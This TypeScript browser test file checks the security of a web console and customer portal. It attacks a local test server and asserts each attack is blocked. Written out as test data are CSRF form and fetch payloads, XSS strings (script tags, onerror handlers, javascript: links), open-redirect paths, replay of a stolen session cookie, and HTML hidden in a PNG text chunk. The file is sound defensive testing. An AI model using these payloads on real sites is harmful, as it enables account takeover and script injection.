import { once } from 'node:events'
import { createServer, request as openRequest, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { crc32 } from 'node:zlib'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { watched } from '../support/open-browser.ts'
import { openPages, owner, shown, type PageWorld } from '../support/start-page-tests.ts'

let world: PageWorld
/** The test sets the content of the attacker's page. */
let evil: {
  readonly server: Server
  readonly port: number
  html: string
  readonly referers: (string | undefined)[]
}

beforeAll(async () => {
  world = await openPages({ sampleDays: 1, callsPerDay: 2 })
  const server = createServer((request, response) => {
    evil.referers.push(request.headers.referer)
    response.setHeader('content-type', 'text/html; charset=utf-8')
    response.end(evil.html)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  evil = { server, port: (server.address() as AddressInfo).port, html: '', referers: [] }
})
afterAll(async () => {
  evil.server.close()
  await world.close()
})

/**
 * Browsers treat the first origin as another site. They treat the second origin as the console's own site, so its
 * requests include the cookies.
 */
const evilOrigins = () => [`http://evil.localhost:${evil.port}`, `http://localhost:${evil.port}`]

function ask(page: Page, path: string, method = 'GET', body?: object, headers: Record<string, string> = {}) {
  return page.evaluate(
    async (asked) => {
      const answer = await fetch(asked.path, {
        method: asked.method,
        headers: {
          ...(asked.text !== undefined && { 'content-type': 'application/json' }),
          ...asked.headers,
        },
        ...(asked.text !== undefined && { body: asked.text }),
      })
      const text = await answer.text()
      return {
        status: answer.status,
        body: JSON.parse(text || 'null') as { error?: { code: string } } | null,
      }
    },
    { path, method, headers, ...(body !== undefined && { text: JSON.stringify(body) }) },
  )
}

/** The page runs no script of the product. */
async function quietPage(context: BrowserContext, origin: string): Promise<Page> {
  const page = await context.newPage()
  await page.goto(`${origin}/healthz`)
  return page
}

/** Creates a token with an owner's rights, which an attacker's page would try to call. */
const tokens = '/v1/application-keys'
const labels = async (): Promise<string[]> =>
  (await world.call('GET', tokens)).body.data.map(({ label }: { label: string }) => label)

describe('threat 100: a page of another origin', () => {
  it('a page of another origin changes nothing through a form, fetch or a beacon, with or without the cookie', async () => {
    const { page } = await world.openConsole('/')
    for (const origin of evilOrigins()) {
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
        evil.html = `<form method="post" action="${world.console}${tokens}" enctype="${type}"><input name='{"label":"stolen' value='"}'></form><script>document.forms[0].submit()</script>`
        const answered = page.waitForResponse(world.console + tokens)
        // This page opens another address while it is still loading.
        await page.goto(origin, { waitUntil: 'commit' })
        const answer = await answered
        expect([401, 403], `${origin} ${type}`).toContain(answer.status())
        await page.waitForURL(world.console + tokens)
        expect(await page.innerText('body')).toMatch(/"code":"(?:cross_site_request|missing_credential)"/)
      }
      evil.html = ''
      await page.goto(origin)
      await page.evaluate(
        async ([to, path]) => {
          const text = JSON.stringify({ label: 'stolen' })
          const sent = { method: 'POST', credentials: 'include' } as const
          await fetch(to + path, { ...sent, mode: 'no-cors', body: text }).catch(() => {})
          const headers = { 'content-type': 'application/json', 'x-csrf-token': 'x' }
          await fetch(to + path, { ...sent, headers, body: text }).catch(() => {})
          await fetch(`${to}/v1/apps/sample-month`, { method: 'DELETE', credentials: 'include' }).catch(
            () => {},
          )
          navigator.sendBeacon(to + path, new Blob([text], { type: 'text/plain' }))
        },
        [world.console, tokens] as const,
      )
    }
    expect(await labels()).toEqual(['First token'])
    expect((await world.call('GET', `/v1/apps/${world.app}`)).body.archivedAt).toBe(null)
  })

  it('a page of another origin reads no response, although its requests carry the cookie', async () => {
    const { page } = await world.openConsole('/')
    evil.html = ''
    for (const origin of evilOrigins()) {
      await page.goto(origin)
      const read = await page.evaluate(
        (to) =>
          fetch(`${to}/v1/sessions/current`, { credentials: 'include' }).then(
            () => 'read',
            () => 'refused',
          ),
        world.console,
      )
      expect(read).toBe('refused')
    }
  })

  it('a page of another origin cannot frame the console or a portal, and keeps no reference to a window that it opens', async () => {
    for (const [address, { page }] of [
      [world.console, await world.openConsole('/')],
      [world.portal, await world.openPortal('/')],
    ] as const) {
      evil.html = `<iframe src="${address}/"></iframe><object data="${address}/"></object>`
      await page.goto(`http://evil.localhost:${evil.port}`)
      await page.waitForLoadState()
      const inside = page.frames().filter((frame) => frame !== page.mainFrame())
      for (const frame of inside) expect(frame.url()).not.toContain(address)
      evil.html = ''
      await page.goto(`http://evil.localhost:${evil.port}`)
      const opened = page.waitForEvent('popup')
      await page.evaluate((to) => {
        const scope = globalThis as unknown as { opened: Window | null }
        scope.opened = globalThis.open(`${to}/`)
      }, address)
      const popup = await opened
      await popup.waitForLoadState()
      expect(await popup.evaluate(() => globalThis.opener)).toBe(null)
      await expect
        .poll(() => page.evaluate(() => (globalThis as unknown as { opened: Window | null }).opened?.closed))
        .toBe(true)
      await page.context().close()
    }
  })
})

describe('threat 103: a session', () => {
  it('the cookie of a session belongs to one host, and no script reads it', async () => {
    for (const [host, { page }, names] of [
      ['localhost', await world.openConsole('/'), ['device', 'session']],
      [`${world.app}.portal.localhost`, await world.openPortal('/'), ['portal']],
    ] as const) {
      const cookies = await page.context().cookies()
      expect(cookies.map(({ name }) => name).toSorted()).toEqual(
        names.map((name) => `__Host-tollgate_${name}`),
      )
      for (const cookie of cookies)
        expect(cookie).toMatchObject({
          domain: host,
          path: '/',
          httpOnly: true,
          secure: true,
          sameSite: 'Lax',
        })
      expect(await page.evaluate(() => document.cookie)).toBe('')
      await page.context().close()
    }
  })

  it('a session in one portal is not valid in another portal or in the console, and leaves no data for others to read', async () => {
    const made = await world.call('PUT', '/v1/apps/beta', { name: 'Beta' })
    expect(made.status, made.text).toBe(200)
    const { page } = await world.openPortal('/')
    const context = page.context()
    expect((await ask(page, '/v1/portal/account')).status).toBe(200)
    const other = await quietPage(context, `http://beta.portal.localhost:${world.server.port}`)
    expect((await ask(other, '/v1/portal/account')).status).toBe(401)
    const console = await quietPage(context, world.console)
    expect((await ask(console, '/v1/sessions/current')).status).toBe(401)
    expect((await ask(console, '/v1/portal/account')).status).toBe(401)
    await world.call('DELETE', '/v1/apps/beta', undefined, { 'x-svc-confirm': 'beta' })
  })
})

describe('threat 105: the link into a portal', () => {
  const redeem = (page: Page, link: string) =>
    ask(page, '/v1/portal-sessions/redeem', 'POST', { token: new URL(link).hash.slice('#handoff='.length) })
  const fresh = async (origin = world.portal) => quietPage(await world.newContext(), origin)

  it('a sign-in link works in only one browser, and is removed from the address bar and the history', async () => {
    const link = await world.handOff('ada')
    const { page } = await watched(await (await world.newContext()).newPage(), world.portal)
    const sent: string[] = []
    page.on('request', (request) => sent.push(request.url(), JSON.stringify(request.headers())))
    await page.goto(`${world.portal}/healthz`)
    await page.goto(link)
    await shown(page)
    await expect.poll(() => ask(page, '/v1/portal/account').then(({ status }) => status)).toBe(200)
    const secret = new URL(link).hash.slice('#handoff='.length)
    expect(page.url()).not.toContain(secret)
    expect(sent.join('\n')).not.toContain(secret)
    await page.goBack()
    await page.goForward()
    expect(page.url()).not.toContain(secret)
    await shown(page)
    const second = await fresh()
    expect(await redeem(second, link)).toMatchObject({
      status: 401,
      body: { error: { code: 'invalid_handoff' } },
    })
    expect(await second.context().cookies()).toEqual([])
  })

  it('a sign-in link is rejected after 60 seconds and at another application, and remains valid after an attempt at another application', async () => {
    await world.call('PUT', '/v1/apps/gamma', { name: 'Gamma' })
    const link = await world.handOff('ada')
    const other = await fresh(`http://gamma.portal.localhost:${world.server.port}`)
    expect(await redeem(other, link)).toMatchObject({
      status: 401,
      body: { error: { code: 'invalid_handoff' } },
    })
    expect(await other.context().cookies()).toEqual([])
    const own = await fresh()
    expect((await redeem(own, link)).status).toBe(200)
    const late = await world.handOff('ada')
    const database = new DatabaseSync(join(world.server.folder, 'tollgate.db'), { timeout: 60_000 })
    const { changes } = database
      .prepare(
        'UPDATE portal_links SET created_at_ms = created_at_ms - 60000, expires_at_ms = expires_at_ms - 60000',
      )
      .run()
    database.close()
    expect(changes).toBe(1)
    expect((await redeem(own, late)).status).toBe(401)
  })

  it('a sign-in link that is redeemed at the control plane sets no cookie, so a portal session never exists on a console page', async () => {
    const page = await fresh(world.console)
    expect((await redeem(page, await world.handOff('ada'))).status).toBe(200)
    expect(await page.context().cookies()).toEqual([])
  })
})

describe('threat 105: the links of the first owner and of invitations', () => {
  it('links are read from the fragment, which the server never receives and which the page removes from the address bar', async () => {
    const { body } = await world.call('PUT', '/v1/team/joins@example.com', { role: 'viewer' })
    for (const link of [world.setupUrl, body.inviteUrl as string]) {
      const { hash, pathname } = new URL(link)
      const secret = hash.slice(1)
      expect(secret.length).toBeGreaterThan(20)
      const { page } = await watched(await (await world.newContext()).newPage(), world.console)
      const sent: string[] = []
      page.on('request', (request) => sent.push(request.url(), JSON.stringify(request.headers())))
      await page.goto(`${world.console}${pathname}${hash}`)
      await shown(page)
      await expect.poll(() => page.url()).toBe(world.console + pathname)
      expect(sent.join('\n')).not.toContain(secret)
      await page.goto(`${world.console}/healthz`)
      await page.goBack()
      expect(page.url()).not.toContain(secret)
    }
  })
})

describe('threat 104: the page after a sign-in', () => {
  it('the page after a portal sign-in is a path of the portal, whatever path was requested', async () => {
    for (const returnPath of [
      '//evil.example',
      '/\\evil.example',
      'https://evil.example',
      '/%2f%2fevil.example',
    ]) {
      const answer = await world.call(
        'POST',
        '/v1/portal-sessions',
        { endUserId: 'ada', returnPath },
        { 'x-svc-app': world.app, 'x-svc-mode': 'test' },
      )
      expect([returnPath, answer.status]).toEqual([returnPath, 400])
    }
  })

  it('the page after a console sign-in is a path of the console, whatever address was requested', async () => {
    // sign-in-pages.test.ts tests further return addresses.
    for (const returnPath of ['https://evil.example', 'javascript:globalThis.hacked=1']) {
      const query = new URLSearchParams({ returnPath }).toString()
      const { foreignRequests, page } = await world.openConsole(`/sign-in?${query}`, { isSignedIn: false })
      await page.getByLabel('Email address').fill(owner.email)
      await page.getByLabel('Password', { exact: true }).fill(owner.password)
      await page.keyboard.press('Enter')
      await page.waitForURL((url) => url.pathname !== '/sign-in')
      await shown(page)
      expect(new URL(page.url()).origin, returnPath).toBe(world.console)
      expect(foreignRequests).toEqual([])
      expect((await ask(page, '/v1/sessions/current')).status).toBe(200)
      await page.context().close()
    }
  })
})

describe('threat 107: a session ends on the server', () => {
  it('after a sign-out, a copy of the cookie is no longer valid', async () => {
    const page = await signedIn('leaves@example.com')
    const stolen = await world.newContext({ storageState: await page.context().storageState() })
    const thief = await quietPage(stolen, world.console)
    const session = await ask(thief, '/v1/sessions/current')
    expect(session.status).toBe(200)
    const { csrfToken } = session.body as unknown as { csrfToken: string }
    expect(
      (await ask(page, '/v1/sessions/current', 'DELETE', undefined, { 'x-csrf-token': csrfToken })).status,
    ).toBe(200)
    // This cookie identifies the browser, and gives no access.
    expect((await page.context().cookies()).map(({ name }) => name)).toEqual(['__Host-tollgate_device'])
    expect((await ask(thief, '/v1/sessions/current')).status).toBe(401)
  })

  it('a session ends when its member gets a lower role or is removed from the team', async () => {
    const email = 'member@example.com'
    const page = await signedIn(email)
    const headers = async () => {
      const { body } = await ask(page, '/v1/sessions/current')
      return { 'x-csrf-token': (body as unknown as { csrfToken: string }).csrfToken }
    }
    expect((await ask(page, '/v1/apps/delta', 'PUT', { name: 'Delta' }, await headers())).status).toBe(200)
    const lesser = await world.call('PATCH', `/v1/team/${email}`, { role: 'viewer' })
    expect(lesser.status, lesser.text).toBe(200)
    expect((await ask(page, '/v1/sessions/current')).status).toBe(401)
    const again = await ask(page, '/v1/sessions', 'POST', { email, password: owner.password })
    expect(again.status).toBe(200)
    expect((await ask(page, '/v1/apps/epsilon', 'PUT', { name: 'E' }, await headers())).status).toBe(403)
    const removed = await world.call('DELETE', `/v1/team/${email}`)
    expect(removed.status, removed.text).toBe(200)
    expect((await ask(page, '/v1/sessions/current')).status).toBe(401)
  })

  async function signedIn(email: string): Promise<Page> {
    const { body } = await world.call('PUT', `/v1/team/${email}`, { role: 'admin' })
    const page = await quietPage(await world.newContext(), world.console)
    const token = new URL(body.inviteUrl).hash.slice(1)
    const joined = await ask(page, '/v1/invitations/accept', 'POST', {
      token,
      name: 'M',
      password: owner.password,
    })
    expect(joined.status).toBe(200)
    return page
  }
})

describe('threat 101: text from other people', () => {
  it('text from other people never runs as a script, even if it is in the page’s HTML', async () => {
    for (const { page } of [await world.openConsole('/sign-in'), await world.openPortal('/')]) {
      const said: string[] = []
      page.on('console', (message) => {
        if (message.type() === 'error') said.push(message.text())
      })
      await page.route('**/injected', async (route) => {
        const { headers, text } = await documentOf(new URL(route.request().url()))
        const injected = `<script>globalThis.hacked = 'inline'</script><img src="x:" onerror="globalThis.hacked = 'handler'"><style>body { --hacked: 1 }</style><p style="--hacked: 1"></p><script src="http://localhost:${evil.port}/x.js"></script><base href="http://localhost:${evil.port}/"><a id="link" href="javascript:globalThis.hacked = 'address'">x</a>`
        await route.fulfill({ headers, body: text.replace('<body>', `<body>${injected}`) })
      })
      evil.html = "globalThis.hacked = 'foreign'"
      await page.goto(`${new URL(page.url()).origin}/injected`)
      await page.evaluate(() => document.querySelector<HTMLElement>('#link')?.click())
      const state = await page.evaluate(() => ({
        hacked: (globalThis as unknown as { hacked?: string }).hacked,
        style: getComputedStyle(document.body).getPropertyValue('--hacked'),
        base: document.baseURI,
      }))
      expect(state).toEqual({ hacked: undefined, style: '', base: page.url() })
      // The browser blocked each script, which shows that the scripts were in the page.
      await expect
        .poll(() => said.filter((text) => text.includes('Content Security Policy')).length)
        .toBeGreaterThanOrEqual(5)
      await page.context().close()
    }
  })

  it('the pages’ own scripts do not turn text from other people into elements or code', async () => {
    const { page } = await world.openPortal('/')
    const tried = await page.evaluate(() => {
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => (document.createElement('p').innerHTML = '<b>x</b>'),
        write: () => document.write('<b>x</b>'),
        policy: () =>
          (
            globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
        script: () => (document.createElement('script').text = 'x'),
      }
      return Object.entries(attempts).map(([name, attempt]) => {
        try {
          attempt()
          return `${name} done`
        } catch (error) {
          return `${name} ${String(error).split(':')[0]}`
        }
      })
    })
    expect(tried).toEqual(['innerHTML TypeError', 'write TypeError', 'policy TypeError', 'script TypeError'])
  })

  it('text from other people cannot be sent elsewhere: a portal requests only its own host, and sends no Referer', async () => {
    const { page } = await world.openPortal('/')
    const refused = await page.evaluate(
      (to) =>
        fetch(to, { mode: 'no-cors' }).then(
          () => 'sent',
          () => 'refused',
        ),
      `http://evil.localhost:${evil.port}/?secret`,
    )
    expect(refused).toBe('refused')
    evil.referers.length = 0
    await page.evaluate((to) => {
      const link = document.createElement('a')
      link.href = to
      document.body.append(link)
      link.click()
    }, `http://evil.localhost:${evil.port}/`)
    await page.waitForURL(`http://evil.localhost:${evil.port}/`)
    expect(evil.referers).toContain(undefined)
    expect(evil.referers.filter((referer) => referer !== undefined && !referer.includes('evil'))).toEqual([])
  })

  it('a brand name with markup is shown as plain text in the title and on the page', async () => {
    const headers = { 'x-svc-app': world.app }
    for (const productName of [
      '</title><script>globalThis.hacked = 1</script>',
      '"><img src=x onerror="globalThis.hacked = 1">',
      '\u202Eevil\u2066',
    ]) {
      const set = await world.call('PATCH', '/v1/brand', { productName }, headers)
      expect(set.status, set.text).toBe(200)
      const { faults, page } = await world.openPortal('/')
      await shown(page)
      expect(await page.evaluate(() => (globalThis as unknown as { hacked?: number }).hacked)).toBe(undefined)
      expect(await page.evaluate(() => document.querySelectorAll('script:not([src])').length)).toBe(0)
      expect(faults).toEqual([])
      await page.context().close()
    }
    await world.call('PATCH', '/v1/brand', { productName: null }, headers)
  })
})

/** Only a browser resolves the host names of portals. */
function documentOf({ host, pathname }: URL): Promise<{ headers: Record<string, string>; text: string }> {
  const { promise, reject, resolve } = Promise.withResolvers<{
    headers: Record<string, string>
    text: string
  }>()
  const headers = { host, accept: 'text/html' }
  openRequest({ host: '127.0.0.1', port: world.server.port, path: pathname, headers }, (answer) => {
    const pieces: Buffer[] = []
    answer.on('data', (piece: Buffer) => pieces.push(piece))
    answer.on('end', () => {
      const told = Object.entries(answer.headers).map(([name, value]) => [name, String(value)])
      resolve({ headers: Object.fromEntries(told), text: Buffer.concat(pieces).toString() })
    })
  })
    .on('error', reject)
    .end()
  return promise
}

describe('threat 102: a logo', () => {
  it('a browser treats an uploaded file as an image, whatever bytes it contains, and HTML is rejected', async () => {
    const { page } = await world.openConsole('/')
    const evilHtml = '<!doctype html><script>globalThis.hacked = 1</script>'
    const put = (bytes: Uint8Array<ArrayBuffer>, type: string) =>
      fetch(`${world.server.baseUrl}/v1/brand/logo`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${world.server.token}`,
          'x-svc-app': world.app,
          'content-type': type,
        },
        body: bytes,
      })
    for (const type of ['image/png', 'text/html', 'image/svg+xml']) {
      expect((await put(new TextEncoder().encode(evilHtml), type)).status, type).toBeGreaterThanOrEqual(400)
    }
    const picture = await page.screenshot({ clip: { x: 0, y: 0, width: 32, height: 32 } })
    const behind = Uint8Array.from([...picture, ...Buffer.from(evilHtml)])
    expect((await put(behind, 'image/png')).status).toBe(422)
    // A text chunk of PNG ("tEXt").
    const text = Buffer.from(`tEXtComment\0${evilHtml}`)
    const framed = Buffer.alloc(text.length + 8)
    framed.writeUInt32BE(text.length - 4)
    text.copy(framed, 4)
    framed.writeUInt32BE(crc32(text), text.length + 4)
    const end = picture.length - 12
    const within = Uint8Array.from([...picture.subarray(0, end), ...framed, ...picture.subarray(end)])
    const stored = await put(within, 'image/png')
    const told = (await stored.json()) as { logo: { path: string } }
    expect(stored.status, JSON.stringify(told)).toBe(200)
    const loaded = await page.goto(world.console + told.logo.path)
    expect(loaded?.headers()).toMatchObject({
      'content-type': 'image/png',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
    })
    expect((await loaded?.body())?.includes('<script')).toBe(false)
    expect(await page.evaluate(() => document.contentType)).toBe('image/png')
    expect(await page.evaluate(() => (globalThis as unknown as { hacked?: number }).hacked)).toBe(undefined)
  })
})
